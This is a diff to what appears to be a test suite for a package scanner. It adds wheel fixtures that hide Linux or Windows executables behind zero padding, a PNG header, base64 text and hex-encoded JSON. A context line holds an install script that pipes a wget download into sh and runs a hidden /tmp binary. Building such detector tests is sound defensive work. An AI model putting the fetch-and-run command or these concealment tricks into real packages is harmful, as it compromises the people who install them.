@@ -193,3 +193,27 @@ def shell_script_hidden_in_module_name(p):
     """A member named like a module is a shell script that pipes a download. Must be held."""
     return p.wheel(files={"{m}/install.sh": b"#!/bin/sh\nwget -qO- https://cdn.example.net/i.sh | sh\nchmod +x /tmp/.x && /tmp/.x\n"},
                    init='import os\n\nos.system("sh " + os.path.join(os.path.dirname(__file__), "install.sh"))\n')
+
+
+@attack
+def elf_behind_padding(p):
+    """A Linux program behind some zeros, which the package cuts off. Must be held."""
+    return p.wheel(files={"{m}/model.dat": b"\0" * 64 + elf(b"\x90" * 4000)})
+
+
+@attack
+def elf_behind_picture(p):
+    """A Linux program behind the header of a picture. Must be held."""
+    return p.wheel(files={"{m}/static/logo.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 100 + elf(b"\x90" * 4000)})
+
+
+@attack
+def elf_in_base64_text(p):
+    """A Linux program in base64, in a text. Must be held."""
+    return p.wheel(files={"{m}/notes.txt": b"notes:\n" + b64(elf(b"\x90" * 4000)).encode() + b"\n"})
+
+
+@attack
+def pe_in_hexadecimal(p):
+    """A Windows program as hexadecimal digits in a document of JSON. Must be held."""
+    return p.wheel(files={"{m}/data.json": json.dumps({"data": pe(b"\x90" * 100).hex()}).encode()})
